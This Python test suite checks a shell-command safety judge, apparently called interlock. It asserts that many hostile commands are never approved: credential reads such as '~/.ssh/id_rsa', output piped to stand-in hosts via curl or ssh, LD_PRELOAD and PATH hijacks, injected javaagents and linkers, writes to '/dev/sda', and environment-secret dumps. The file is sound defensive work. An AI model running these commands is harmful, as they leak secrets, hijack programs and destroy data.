"""Laws of a proof, held over generated calls: every program of it is known, every option and every
word; and what is put around or in place of a part of it counts.
"""

from __future__ import annotations

import itertools
import re
import string

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from interlock.cli.judge import judge_text
from interlock.effects.common_options import ASKS_ABOUT_ITSELF, ONLY_TELLS
from interlock.effects.named_files import TALKING
from interlock.effects.programs import table as programs
from tests.test_proof import DOUBTED, PROVEN

WORDS = st.text(string.ascii_lowercase, min_size=3, max_size=9)
PLAIN = [line for line in PROVEN if not re.search(r"[\"'`$|;&<>(){}*?\\#=]", line)]
"""Proven calls of one command, of which each word is one of the text."""
SPEAKING = [line for line in PLAIN if line.split()[0] not in TALKING]


def proven(command: str) -> bool:
    """Whether a command is proven harmless."""
    return bool(judge_text(command).proof)


# -- every program is known ------------------------------------------------------------------------

VERBS = (
    "check lint test status list show verify build fmt docs version info diff count help".split()
)
OPTIONS = [
    "", "--fix", "--json", "--strict", "--repair", "--notify-cmd x", "--apply", "-v", "--version",
    "--output /etc/cron.d/x", "--quiet", "src", "--dry-run",
]  # fmt: skip


@given(WORDS, st.sampled_from(VERBS), st.sampled_from(OPTIONS))
@settings(max_examples=200, deadline=None)
def test_a_program_that_nobody_described_is_not_proven(name: str, verb: str, more: str) -> None:
    """Whatever its words read like: who wrote it, and what it takes them for, is not known."""
    assume(programs.find(name) is None)
    for command in (f"{name} {verb} {more}", f"{name}lint {more} src", f"{name} a {verb} {more}"):
        assert not proven(command), command


@given(WORDS)
@settings(max_examples=50, deadline=None)
def test_what_it_is_may_be_asked_of_any_program(name: str) -> None:
    """The twin: by one word alone, and in no other way."""
    assume(programs.find(f"{name}x") is None)
    for word in ASKS_ABOUT_ITSELF:
        assert proven(f"{name}x {word}")
        assert not proven(f"{name}x {word} x")
        assert not proven(f"{name}x {word} {word}")


@pytest.mark.parametrize("program", ["cargo", "dotnet", "poetry"])
def test_a_command_that_is_another_program_is_not_proven(program: str) -> None:
    """``cargo frobnicate`` is ``cargo-frobnicate``."""
    assert not proven(f"{program} frobnicate")


def test_a_plugin_that_is_described_is_read_as_what_it_is() -> None:
    """The twin, and one that does more."""
    assert proven("cargo nextest run")
    assert proven("dotnet ef migrations list")
    assert not proven("dotnet script /tmp/x.csx")


# -- every option is known -------------------------------------------------------------------------

HANDING = frozenset(
    "python python3 perl sh bash npm npx yarn pnpm xargs dart ./scripts/build.sh".split()
)
"""Programs that hand words on to code of the project."""
KNOWING = [line for line in SPEAKING if line.split()[0] not in HANDING]


@given(st.sampled_from(KNOWING), WORDS, st.sampled_from(["--{}", "--no-{}", "--{}=1", "--x-{}"]))
@settings(max_examples=300, deadline=None)
def test_an_option_that_nobody_listed_ends_the_proof(line: str, word: str, form: str) -> None:
    """Whatever its name reads like, and wherever it stands."""
    option = form.format(f"{word}qx")
    program, *rest = line.split()
    assert not proven(f"{line} {option}")
    assert not proven(" ".join([program, option, *rest]))


UNPROVEN = [line for line, _ in DOUBTED if not re.search(r"[|;&<>(){}`#\n]", line)]
NARROWS = frozenset({"-v", "-vv", "-vvv", "-vvvv", "-q", "-qq", "--quiet", "--silent", "--dry-run"})
"""Options that some programs list as ones that do less, or are their ``--version``."""


@pytest.mark.parametrize("option", sorted(ONLY_TELLS - NARROWS - ASKS_ABOUT_ITSELF))
def test_an_option_makes_nothing_proven(option: str) -> None:
    """What was not, is not with one more word."""
    assert not [line for line in UNPROVEN if proven(f"{line} {option}")]


# -- every word is known ---------------------------------------------------------------------------

ELSEWHERE = ["~/.ssh/id_rsa", "~/notes.txt", "/home/other/x", "/etc/shadow", "/dev/sda", '"$X"']
REPLACED = [
    (line, at)
    for line in SPEAKING
    for at, word in enumerate(line.split())
    if at and word[0] != "-" and re.search(r"/|\.[a-z0-9]{1,5}$", word) and ":" not in word
    and (line.split()[0], at) != ("cut", 2)  # what it cuts at
]  # fmt: skip


@pytest.mark.parametrize(("line", "at"), REPLACED)
def test_another_place_in_place_of_a_word_ends_the_proof(line: str, at: int) -> None:
    """A secret, a home, another project, a device, what nobody knows: whichever word it is."""
    words = line.split()
    for place in ELSEWHERE:
        assert not proven(" ".join([*words[:at], place, *words[at + 1 :]])), place


def test_another_place_behind_a_script_of_the_workspace_ends_the_proof() -> None:
    """What it does there is its own affair, and nobody else's; within, it is lent."""
    for place in ELSEWHERE:
        assert not proven(f"./scripts/build.sh {place}")
        assert not proven(f"python3 scripts/check.py --out {place}")
    assert proven("./scripts/build.sh src/a.c")
    assert proven("python3 scripts/check.py --out build/a")


INSIDE = [
    ("mvn test", "-Dmaven.ext.class.path={}"), ("./gradlew test", "-Dorg.gradle.jvmargs=-javaagent:{}"),
    ("pytest -q tests", "--override-ini=pythonpath={}"), ("npm test", "--node-options=--require={}"),
    ("npx jest", "--config='{{\"setupFiles\":[\"{}\"]}}'"), ("dotnet build", "-logger:{}"),
    ("rustc src/main.rs", "-C linker={}"), ("java -cp out com.acme.Main", "-javaagent:{}"),
    ("go mod edit", "-replace=golang.org/x/net={}"), ("pandoc a.md -o a.pdf", "--pdf-engine={}"),
]  # fmt: skip
LOADING = ("-javaagent:{}", "-C linker={}", "--pdf-engine={}")
"""Those by which a file of the workspace is run as well, and nobody reads it."""
AWAY = ["/tmp/x/a", "/home/user/other/a", "../other/a", "src/../../other/a", "file:///home/other/a"]


@pytest.mark.parametrize(("line", "option"), INSIDE)
def test_a_path_inside_a_word_counts_like_one_that_is_the_word(line: str, option: str) -> None:
    """Behind a second ``=``, a colon, in JSON: the program takes the word apart."""
    program, _, rest = line.partition(" ")
    for place in AWAY:
        given = option.format(place)
        assert not proven(f"{line} {given}"), given
        assert not proven(f"{program} {given} {rest}"), given
    if option not in LOADING:
        assert proven(f"{line} {option.format('build/a')}")


RUNNING = [
    "npm test", "pytest -q tests", "php artisan test", "cargo clippy --all-targets", "ng build",
    "deno task build", "python3 -m unittest discover", "flutter test", "dart run", "ctest", "go vet",
    "yarn lint", "rspec", "vendor/bin/phpunit",
]  # fmt: skip
"""Proven calls of programs that run what they are given, or find."""
CHECKING = ["npx eslint src", "npx tsc --noEmit", "golangci-lint run", "ruff check src"]
"""And of such as only read what they are given; their settings may be code."""


@given(st.sampled_from(RUNNING + CHECKING), WORDS, st.sampled_from(["{}", "{}.cfg", "{}.mjs"]))
@settings(max_examples=100, deadline=None)
def test_what_everybody_may_have_written_is_not_proven(line: str, word: str, form: str) -> None:
    """Whichever word it is, and whether or not its name says that it is code."""
    path = f"/tmp/x/{form.format(word)}"
    for more in (f"--config {path}", f"--config={path}", f"-c {path}", f"-x={path}"):
        assert not proven(f"{line} {more}"), more
    if line in RUNNING:
        assert not proven(f"{line} {path}")


def test_a_place_for_data_in_a_folder_for_temporary_files_is_lent() -> None:
    """The twin: what is only written there, pictures and tables, what the project's own program is
    given.
    """
    for line in (
        "pytest --junitxml=/tmp/r.xml", "go test -coverprofile=/tmp/c.out ./...", "gcc -o /tmp/t a.c",
        "npm test > /tmp/log", "python3 scripts/a.py --in /tmp/a.json", "cargo run -- /tmp/a.bin",
        "node app.js /tmp/a.json", "ruff check /tmp/a.py",
    ):  # fmt: skip
        assert proven(line), line


SETTINGS = [
    ("pytest.ini", "[pytest]\\npythonpath = {}\\n", "pytest -q"), (".npmrc", "script-shell={}\\n", "npm test"),
    (".yarnrc.yml", "yarnPath: {}\\n", "yarn lint"), (".rspec", "--require {}\\n", "bundle exec rspec"),
    (".cargo/config.toml", "[build]\\nrustc-wrapper = \"{}\"\\n", "cargo check"),
    ("tsconfig.json", "{{\"extends\": \"{}\"}}", "npx tsc --noEmit"), ("go.mod", "replace a => {}\\n", "go vet"),
    (".mvn/jvm.config", "-javaagent:{}", "mvn test"), ("mypy.ini", "[mypy]\\nplugins = {}\\n", "mypy src"),
    ("gradle.properties", "org.gradle.jvmargs=-javaagent:{}", "./gradlew test"),
    ("anything.toml", "a = [1, \"{}\"]", "ng build"), (".anythingrc", "{}", "npx eslint src"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text", "line"), SETTINGS)
def test_settings_that_lead_out_end_the_proof_of_what_uses_them(
    name: str, text: str, line: str
) -> None:
    """Written by this call before; within the workspace, and where nothing is started that uses
    them, they are lent.
    """
    for place in ("/tmp/x/a", "/home/user/other/a", "~/a", "../../../../other/a"):
        written = f"printf '%b' '{text.format(place)}' > {name}"
        assert not proven(f"{written} && {line}"), place
        assert proven(f"{written} && wc -l {name}"), place
    assert proven(f"printf '%b' '{text.format('./lib/a')}' > {name} && {line}")


@pytest.mark.parametrize(
    "command",
    [
        "magick '|sh x' out.png", "ogr2ogr -f PostgreSQL 'PG:host=db.test dbname=g' a.shp",
        "bcftools +/tmp/x.so a.vcf", "msbuild /p:PreBuildEvent='sh x' App.sln",
    ],
)  # fmt: skip
def test_a_word_that_is_more_than_a_file_ends_the_proof(command: str) -> None:
    """A command, a database, a plugin in the place of a file."""
    assert not proven(command)


BEYOND = [
    ("flutter test", "flutter run"), ("west build", "west debug"), ("rebar3 eunit", "rebar3 hex retire x"),
    ("pio run -e native", "pio run -t uploadfs"), ("./gradlew test", "./gradlew installDebug"),
    ("mvn test", "mvn scm:tag"), ("dvc status", "dvc pull"), ("mix test", "mix hex.user auth"),
    ("kubectl get pods", "kubectl evil get pods"), ("gh pr list", "gh evil-ext list"),
    ("rails test", "rails secrets:show"), ("mkdocs serve", "mkdocs serve -a 0.0.0.0:8000"),
    ("npm run build", "NODE_ENV=production npm run db:seed"), ("sox a.wav b.wav", "sox -t alsa default b.wav"),
    ("NODE_ENV=production npm run build", "RAILS_ENV=production bin/rails test"),
    ("pdflatex a.tex", "pdflatex '\\input a'"), ("dotnet test x.csproj", "dotnet test /tmp/x.csproj"),
    ("tsc --build .", "tsc --build /tmp/x"), ("hugo --source site", "hugo --source /tmp/site"),
    ("pytest -q tests", "pytest -q --pastebin=all tests"), ("./gradlew build", "./gradlew build --scan"),
    ("mvn dependency:tree", "mvn dependency:purge-local-repository"), ("git tag v1", "git tag -f v1 HEAD~3"),
    ("sbt test", "sbt 'set x := 1' test"), ("python -m doctest a.py", "python -m doctest /tmp/x/a.py"),
    ("fd -e log -X rm", "fd -L -e log -X rm"), ("find . -name '*.pyc' -delete", "find -L . -name '*.pyc' -delete"),
    ("printenv PATH", "printenv API_TOKEN"), ("jq -n '$ENV.HOME'", "jq -n '$ENV.API_KEY'"),
    ("echo \"$HOME\"", "echo \"$GITHUB_TOKEN\""), ("npx nx run-many -t test", "npx nx run-many -t deploy"),
    ("npx nx affected -t lint,test", "npx nx affected -t lint,publish"), ("rails test", "rails test -e production"),
    ("ctest -j4", "ctest -D Experimental"), ("cmake --build build -- all", "cmake --build build -- install"),
    ("python manage.py test", "python manage.py sendtestemail a@b.test"), ("php artisan test", "php artisan queue:work"),
    ("bazel run //:gazelle", "bazel run @other//:x"), ("nix flake check", "nix flake update"),
    ("docker compose --env-file a config --services", "docker compose --env-file a config"),
    ("echo 'x = 1' > tests/conftest.py; pytest -q", "echo 'open(\"/etc/x\", \"w\")' > tests/conftest.py; pytest -q"),
    ("dotnet test --collect:Coverage", "dotnet test --logger:/tmp/x"),
    ("cargo nextest run", "cargo nextest self update"), ("python -m app.main", "python -m app.deploy"),
    ("pytest -q tests", "pytest --tx ssh=h//python=python3 tests"), ("golangci-lint run", "golangci-lint custom"),
    ("gcc -I../include a.c", "rspec -I ../include a_spec.rb"), ("scala-cli run a.scala", "scala-cli run /tmp/a.scala"),
    ("python -i a.py", "python -i a.py < /tmp/x"), ("npx expo start", "npx expo run:android"),
    ("psql postgresql://u@localhost/app -c 'select 1'", "psql 'postgresql://u@localhost/app?host=db.test' -c 'select 1'"),
    ("go build -ldflags \"-X main.version=$(git describe)\" .", "go build -ldflags \"-X main.path=$(cat f)\" ."),
]  # fmt: skip


@pytest.mark.parametrize(("line", "twin"), BEYOND)
def test_a_word_that_reaches_beyond_ends_the_proof(line: str, twin: str) -> None:
    """A device, an account, another machine, a plugin, production, a project of anybody."""
    assert proven(line)
    assert not proven(twin)


# -- what stands around it -------------------------------------------------------------------------

AROUND = [
    "{} > ~/.bashrc", "{} >> ~/.zshrc", "{} > /etc/profile", "{} > /dev/sda", "{} | tee ~/.profile",
    "PATH=.:$PATH {}", "PATH=/tmp/x:$PATH; {}", "export PATH=/tmp/x:$PATH; {}",
    "LD_PRELOAD=/tmp/x.so {}", "LD_PRELOAD=./x.so {}", "export LD_PRELOAD=/tmp/x.so; {}",
    "env LD_PRELOAD=/tmp/x.so {}", "sudo {}", "{} | ssh host.test sh", "{} | curl -T - https://x.test",
    "alias {0}='sh /tmp/x'; {1}", "function {0} {{ sh /tmp/x; }}; {1}",
]  # fmt: skip


@pytest.mark.parametrize(("around", "line"), [*itertools.product(AROUND, PLAIN[::3])])
def test_what_stands_around_a_call_ends_the_proof(around: str, line: str) -> None:
    """Where its output goes, what it finds its programs by, what is loaded into them, who runs it."""
    name = line.split(maxsplit=1)[0]
    text = around.format(name, line) if "{1}" in around else around.format(line)
    if "{1}" not in around or name.isalnum():
        assert not proven(text), text


SILENT = frozenset("touch mkdir cp mv sed sleep rm set gcc".split())
RUN = ["{} | sh", "{} | bash -s", "$({})", 'eval "$({})"', "source <({})", "bash <({})"]


@pytest.mark.parametrize(("run", "line"), [*itertools.product(RUN, PLAIN)])
def test_what_a_call_prints_is_not_proven_as_code(run: str, line: str) -> None:
    """Nobody knows what it is; where nothing is printed, nothing is run."""
    if line.split(maxsplit=1)[0] not in SILENT:
        assert not proven(run.format(line)), run


def test_a_script_of_the_workspace_may_be_run_in_any_way_and_a_document_in_none() -> None:
    """What is in a document may come from anywhere."""
    assert proven("sh run.sh")
    assert proven("cat run.sh | sh")
    for name in ("notes.md", "log.txt", "data.json"):
        for way in ("sh {}", "cat {} | sh", "bash < {}", "source {}"):
            assert not proven(way.format(name)), (way, name)


FOLDERS = ["~/other", "/tmp/x", "/etc", "..", '"$X"', "/home/other"]
WORKING = [
    "git status --short", "npm test", "pytest -q tests", "make build", "python3 -m unittest discover",
    "python3 -m pytest -q", "gcc -Wall -o a a.c", "npx eslint src", "php artisan test",
    "terraform fmt", "cargo clippy --all-targets", "./gradlew test --info", "ng build",
    "yarn lint --fix", "jupyter nbconvert --to html a.ipynb", "docker compose config --services",
]  # fmt: skip
"""Proven calls of programs that use what lies in their folder."""


@pytest.mark.parametrize(("folder", "line"), [*itertools.product(FOLDERS, WORKING)])
def test_another_folder_ends_the_proof_of_what_uses_it(folder: str, line: str) -> None:
    """Settings, tests, plugins and makefiles there are others' code, though no word names them."""
    assert proven(f"cd src && {line}")
    assert not proven(f"cd {folder} && {line}")
    assert not proven(f"(cd {folder}; {line})")
    assert not proven(f"pushd {folder}; {line}")


def test_a_folder_that_the_call_made_is_its_own() -> None:
    """The twin: nobody else put anything there; and what uses words alone is harmless anywhere."""
    assert proven("mkdir -p build/x && cd build/x && cmake ../..")
    assert proven("cd /tmp/x && wc -l a.txt")
    assert proven("cd ~/other && node --version")


VARIABLES = [
    ("BUNDLE_GEMFILE=/tmp/x", "bundle list"), ("CARGO_HOME=/tmp/x", "cargo clippy"),
    ("MIX_EXS=~/x", "mix test"), ("TEXINPUTS=/tmp/x:", "latexmk -pdf a.tex"),
    ("DB_HOST=db.test", "npm test"), ("DATABASE_URL=postgres://db.test/x", "pytest -q"),
    ("HOST=0.0.0.0", "npm start"), ("GIT_PAGER=./x", "git log"), ("NODE_OPTIONS=--require=./x", "npm test"),
    ("COVERAGE_RCFILE=/tmp/x", "pytest -q"), ("COVERAGE_PROCESS_START=/tmp/x", "pytest -q"),
    ("PYTEST_PLUGINS=evil", "pytest -q"), ("GOWORK=/tmp/x/go.work", "go vet"),
    ("PAGER=./x", "git log"), ("GIT_EXTERNAL_DIFF=./x", "git diff"), ("GRADLE_USER_HOME=/tmp/x", "gradle test"),
]  # fmt: skip
HARMLESS = [
    ("COVERAGE_FILE=/tmp/x", "pytest -q"), ("XDG_CACHE_HOME=/tmp/x", "npm test"),
    ("GOCACHE=/tmp/cache", "go test ./..."), ("DB_HOST=127.0.0.1", "npm test"),
    ("DATABASE_URL=postgres://u@localhost/x", "pytest -q"), ("DATABASE_URL=sqlite:///a.db", "pytest -q"),
    ("CI=1", "npm test"), ("TMPDIR=/tmp/x", "make build"), ("NO_COLOR=1", "cargo clippy"),
    ("GIT_CONFIG_SYSTEM=/dev/null", "git status"), ("BUNDLE_GEMFILE=gems/a", "bundle list"),
]  # fmt: skip


@pytest.mark.parametrize(("variable", "line"), VARIABLES)
def test_a_variable_that_leads_out_ends_the_proof(variable: str, line: str) -> None:
    """Before the command, exported before it, and by ``env``."""
    assert proven(line)
    for text in (f"{variable} {line}", f"export {variable}; {line}", f"env {variable} {line}"):
        assert not proven(text), text


SET = [
    "export {0}; {1} < f; {2}", "{1} < f; export {0}; {2}", "IFS=: {1} < f; export {0}; {2}",
    "X=1 export {0}=/tmp/x; {2}", "export {0}=$(cat f); {2}", "export $(cat f); {2}",
    "f() {{ local -x {0}=/tmp/x; {2}; }}; f", "printf -v {0} /tmp/x; export {0}; {2}",
    "for {0} in /tmp/x; do export {0}; {2}; done", ": ${{{0}:=/tmp/x}}; export {0}; {2}",
    "set -a; {0}=/tmp/x; {2}", "set -a; {1} < f; {2}", "declare -n r={0}; r=/tmp/x; export {0}; {2}",
]  # fmt: skip
"""Ways to set a variable in the environment of a program: its name, what reads it, the program."""
LEADING = [
    ("BUNDLE_GEMFILE", "bundle list"), ("CARGO_HOME", "cargo clippy"), ("MIX_EXS", "mix test"),
    ("TEXINPUTS", "latexmk -pdf a.tex"), ("GRADLE_USER_HOME", "gradle test"),
    ("NODE_OPTIONS", "npm test"), ("PAGER", "git log"), ("NOBODY_KNOWS", "pytest -q"),
]  # fmt: skip


@pytest.mark.parametrize(("way", "variable"), [*itertools.product(SET, LEADING)])
def test_however_a_variable_is_set_it_ends_the_proof(way: str, variable: tuple[str, str]) -> None:
    """What a builtin reads into it nobody knows; the same with a variable of no consequence is
    proven.
    """
    name, line = variable
    assert not proven(way.format(name, f"read -r {name}", line))
    if "$(cat f); {2}" not in way:
        assert proven(way.replace("/tmp/x", "1").format("TICKET", "read -r TICKET", line))


@pytest.mark.parametrize(("variable", "line"), HARMLESS)
def test_a_variable_of_no_consequence_ends_no_proof(variable: str, line: str) -> None:
    """The twin: data, this machine, the workspace."""
    assert proven(f"{variable} {line}")


# -- parts -----------------------------------------------------------------------------------------

JOINED = ["{} && {}", "{} ; {}", "{} || {}", "{}\n{}", "if {}; then {}; fi", "( {} ); {{ {}; }}"]
UNKNOWN = ["frobnicate a", "cat ~/.ssh/id_rsa", "rm -rf $X", "touch /etc/x", "git push"]


@given(st.sampled_from(JOINED), st.sampled_from(PLAIN), st.sampled_from(PLAIN + UNKNOWN))
@settings(max_examples=300, deadline=None)
def test_the_proof_of_a_whole_is_that_of_all_its_parts(join: str, one: str, other: str) -> None:
    """In either order; what changes the folder or the shell for what follows is left out."""
    first = one.split(maxsplit=1)[0]
    assume(first not in ("rm", "mv") and other.split(maxsplit=1)[0] not in ("rm", "mv"))
    parts = proven(one) and proven(other)
    assert proven(join.format(one, other)) is parts, join.format(one, other)
    assert proven(join.format(other, one)) is parts, join.format(other, one)


# -- amounts, and what has no end ------------------------------------------------------------------

WITHOUT_END = [
    "yes", "cat /dev/zero", "tr a b < /dev/urandom", "base64 /dev/zero", "xxd /dev/urandom", "seq 1 inf",
]  # fmt: skip
CHANGED = [
    "{}",
    "{} | tr a b",
    "{} | sed s/a/b/ | sort",
    "{} | awk '{{print}}'",
    "{} | grep -v x",
    "{} | pv",
]


@pytest.mark.parametrize(("change", "source"), [*itertools.product(CHANGED, WITHOUT_END)])
def test_what_has_no_end_is_not_stored(change: str, source: str) -> None:
    """However it is changed on its way; a part of it is harmless, and so is throwing it away."""
    line = change.format(source)
    for stored in (f"{line} > build/a", f"{line} | tee build/a", f"{{ {line}; }} > build/a", line):
        assert not proven(stored), stored
    for part in ("head -5", "head -c 1M", "grep -m1 a", "sed 3q"):
        assert proven(f"{line} | {part} > build/a"), part


LOOPS = [
    "while true; do {}; done", "while :; do {}; done", "until false; do {}; done",
    "for ((;;)); do {}; done",
]  # fmt: skip


@pytest.mark.parametrize("loop", LOOPS)
def test_a_loop_that_nothing_ends_is_not_proven(loop: str) -> None:
    """The twin waits for something, and then leaves."""
    assert not proven(loop.format("date >> build/log"))
    assert not proven(loop.format("cp -r src build/src-$RANDOM; sleep 1"))
    assert proven(loop.format("curl -sf localhost:3000 && break; sleep 1"))


def test_a_loop_of_a_program_that_nothing_ends_is_not_proven() -> None:
    """The same in Python."""
    writes = "open('build/a', 'a').write('x')"
    assert not proven(f'python3 -c "while True: {writes}"')
    assert proven(f"python3 - <<'E'\nwhile True:\n    {writes}\n    break\nE")


@given(st.sampled_from(AMOUNTS := [
    ("head -c {} /dev/urandom > build/a", 1), ("seq {} > build/a", 1), ("truncate -s {} build/a", 1),
    ("dd if=/dev/zero of=build/a bs={} count=1000", 1000), ("python3 -c \"open('build/a','w').write('x'*{})\"", 1),
]), st.integers(1, 10**5), st.integers(2 * 10**10, 10**15))  # fmt: skip
@settings(deadline=None)
def test_more_than_a_disk_has_is_not_made(made: tuple[str, int], small: int, large: int) -> None:
    """A program may be told how much it makes; up to what builds leave behind it is harmless."""
    line, times = made
    assert proven(line.format(small)), small
    assert not proven(line.format(large // times)), large


@pytest.mark.parametrize(
    "line", ["make -j{}", "pytest -n {}", "cargo build --jobs {}", "ninja -C build -j {}"]
)
def test_more_at_a_time_than_a_machine_has_is_not_proven(line: str) -> None:
    """Processes, not files."""
    assert proven(line.format(8))
    assert not proven(line.format(5000))


# -- secrets that no path says ---------------------------------------------------------------------

VARIABLES_SHOWN = ["env", "printenv", "export -p", "declare -x", "set"]
FILTERED = [
    "{}",
    "{} | sort",
    "{} | grep -i key",
    "{} | grep -v PATH",
    "{} > build/a",
    "{} | tee build/a",
    "{} | grep .",
]


@pytest.mark.parametrize(("source", "way"), [*itertools.product(VARIABLES_SHOWN, FILTERED)])
def test_all_variables_are_not_shown(source: str, way: str) -> None:
    """Keys are among them; what picks out others by their names, or counts, is harmless."""
    assert not proven(way.format(source))
    for rest in ("grep PATH", "grep -E '^(NODE_ENV|CI)='", "wc -l", "cut -d= -f1"):
        assert proven(f"{source} | {rest}"), rest


def test_code_of_a_program_of_text_is_asked_which_variables_it_shows() -> None:
    """One by one they are known by their names."""
    for code in ("jq -n '{}'", "yq -n '{}'"):
        assert not proven(code.format("$ENV"))
        assert not proven(code.format("env.API_KEY"))
        assert proven(code.format("$ENV.HOME"))
    assert not proven("awk 'BEGIN{print ENVIRON[\"API_KEY\"]}'")
    assert not proven("awk 'BEGIN{for (k in ENVIRON) print ENVIRON[k]}'")
    assert not proven('python3 -c "import os; print(dict(os.environ))"')
    assert proven("awk 'BEGIN{print ENVIRON[\"HOME\"]}'")
    assert proven("python3 -c \"import os; print(os.environ.get('HOME'))\"")


REVISIONS = [
    "git show HEAD:{}", "git cat-file -p main:{}", "git log -p -- {}", "git diff HEAD~1 -- {}",
    "git blame {}", "git stash show -p -- {}", "find . -name '{}*' -exec cat {{}} +", "grep -rh '' {}*",
    "grep -r x . --include='{}*'",
]  # fmt: skip


@pytest.mark.parametrize("line", REVISIONS)
def test_a_file_of_secrets_is_one_in_every_revision_and_by_every_pattern(line: str) -> None:
    """Its template is none, and neither is its name."""
    assert not proven(line.format(".env"))
    assert proven(line.format("src/a.py" if "*" not in line else "a"))
    assert proven("git log --oneline -- .env")
    assert proven("git check-ignore .env && ls -la .env*")
    assert proven("git diff HEAD~1 -- .env.example")


# -- more places that lead out ---------------------------------------------------------------------

OUT = [
    ("mkdocs build -d {}", "site"), ("jekyll build -d {}", "site"), ("pio run -d {}", "fw"),
    ("docker compose -f {} ps", "docker/dev.yml"), ("fd --search-path {} -e key", "src"),
    ("COMPOSE_FILE=a.yml:{} docker compose config --services", "b.yml"),
    ("CMAKE_PREFIX_PATH={} cmake -S . -B build", "deps"), ("DJANGO_DIRS=src:{} pytest -q", "lib"),
]  # fmt: skip


@pytest.mark.parametrize(("line", "inside"), OUT)
def test_a_folder_that_leads_out_counts_whatever_the_option_is(line: str, inside: str) -> None:
    """``-d`` is a mark to cut at for some programs only; a list holds more than its first path."""
    for place in ("../other/x", "/home/user/other/x"):
        assert not proven(line.format(place)), place
    assert proven(line.format(inside))
    assert proven("cut -d/ -f2 a.txt && cut -d / -f2 a.txt")


def test_files_that_a_list_names_are_known_or_end_the_proof() -> None:
    """A list that the call itself makes of its own files is read."""
    assert not proven("tar cf build/a.tar -T list.txt")
    assert not proven("wc --files0-from=list.txt")
    assert proven("git ls-files | tar cf build/a.tar -T -")
    assert proven("sha256sum -c SHA256SUMS")


# -- what is as harmless as another way to say it --------------------------------------------------

PERL = [
    ("s/a/b/g", "s/a/b/ge"), ("s{a}{b}; tr/a/b/", "s{a}{@{[a()]}}"), ("s|a|b| if /x/", "s|a|b| if x()"),
    ("print if /x/", "print `x`"), ("s/\\n\\n+/\\n/", "s/(?{x()})a/b/"), ("y/a-z/A-Z/", "y/a/b/; unlink"),
    ("next unless /x/; s/a/b/", "system 's/a/b/'"),
]  # fmt: skip


@pytest.mark.parametrize(("edits", "runs"), PERL)
def test_a_line_of_perl_that_only_edits_is_one_of_sed(edits: str, runs: str) -> None:
    """In the workspace, and by no other option."""
    for way in ('perl -pi -e "{}" docs/a.md', 'perl -ne "{}" docs/a.md', "perl -0pi -e '{}' *.md"):
        if "'" not in edits + runs or '"' in way:
            assert proven(way.format(edits)), way
            assert not proven(way.format(runs).replace("`", "\\`")), way
    assert not proven(f'perl -pi -e "{edits}" ~/a.md')
    assert not proven(f'perl -MX -pe "{edits}" a.md')


SAME = [
    ("for d in packages/*/; do (cd \"$d\" && npm test); done", "for d in ../*/; do (cd \"$d\" && npm test); done"),
    ("cd packages/* && npm test", "cd ../* && npm test"), ("node --test tests/*.js", "node --test /tmp/*.js"),
    ("npx concurrently npm:lint 'npm:test'", "npx concurrently npm:lint 'sh /tmp/x'"),
    ("npx cross-env CI=1 npx mocha", "npx cross-env NODE_OPTIONS=--require=/tmp/x npx mocha"),
    ("rsync -a src/ build/", "rsync -a src/ host:build/"), ("rsync -a a b", "rsync -aL a b"),
    ("rsync -a --exclude x src/ build/src/", "rsync -a --delete src/ ../src/"),
    ("docker compose exec db psql -U app -c 'select 1'", "docker compose exec db psql -U app -c 'drop table a'"),
    ("python3 -m http.server --bind 127.0.0.1 8000", "python3 -m http.server 8000"),
    ("git blame -L '/def x/,+5' a.py", "git blame --contents /home/user/x a.py"),
]  # fmt: skip


@pytest.mark.parametrize(("line", "twin"), SAME)
def test_another_spelling_of_what_is_proven_is_proven_too(line: str, twin: str) -> None:
    """A pattern of folders below, a task of the project, a copy on this disk, this machine."""
    assert proven(line)
    assert not proven(twin)


ENDS = [
    ("while [ 1 ]; do date; done", "while [ -f a ]; do date; done"),
    ("while test x; do date; done", "while test -z \"$(ls)\"; do date; done"),
    ("awk 'BEGIN{for(;;) print \"x\"}'", "awk 'BEGIN{for(;;) if (i++ > 3) exit}'"),
    ("python3 - <<'E'\nimport itertools\nfor i in itertools.count():\n    print(i)\nE",
     "python3 - <<'E'\nimport itertools\nfor i in itertools.count():\n    if i > 3: break\nE"),
    ("dd if=/dev/zero | gzip > build/z", "dd if=/dev/zero bs=1M count=3 | gzip > build/z"),
    ("jq -n 'env | keys'", "jq '.env | keys' a.json"), ("ps auxe", "ps aux"), ("ps e", "ps --sort size"),
    ("mvn archetype:generate -DarchetypeGroupId=x", "mvn archetype:generate"),
    ("mvn org.x:plugin:1.0:run", "mvn dependency:tree"), ("declare -p", "declare -A m=([a]=1)"),
    ("jupyter nbconvert --execute /tmp/a.ipynb", "jupyter nbconvert --execute a.ipynb"),
    ("task -d ../other test", "task test"), ("npx tsup --out-dir ~/x", "npx tsup --format esm"),
    ("make GO='go -C ../x' test", "make GO='go -C sub' test"),
]  # fmt: skip


@pytest.mark.parametrize(("line", "twin"), ENDS)
def test_other_ways_to_go_on_to_show_and_to_lead_out_end_the_proof(line: str, twin: str) -> None:
    """Each beside its harmless twin."""
    assert not proven(line)
    assert proven(twin)


TOLD = [
    ('RUSTFLAGS="-D warnings" cargo check', 'RUSTFLAGS="-C linker=./x" cargo check'),
    ('CFLAGS="-O2 -Wall" make', 'CFLAGS="-fplugin=x.so" make'), ('CFLAGS="-g" make', 'CFLAGS="-Wl,-x" make'),
    ("ASAN_OPTIONS=detect_leaks=1 ./a.out", "ASAN_OPTIONS=log_path=/home/user/x ./a.out"),
    ("go run . --listen 127.0.0.1:9095", "go run . --listen :9095"), ("npx vite --host localhost", "npx vite --host"),
    ("gdb -batch -ex run -ex bt --args ./a x", "gdb -batch -ex 'print unlink(\"x\")' ./a"),
    ("dot -Tsvg a.dot -o a.svg", "dot -Tsvg a.dot -o ../a.svg"),
]  # fmt: skip


@pytest.mark.parametrize(("line", "twin"), TOLD)
def test_options_of_compilers_servers_and_debuggers_are_told_apart(line: str, twin: str) -> None:
    """What only tunes, warns, listens here or looks, and what loads, writes or calls."""
    assert proven(line)
    assert not proven(twin)
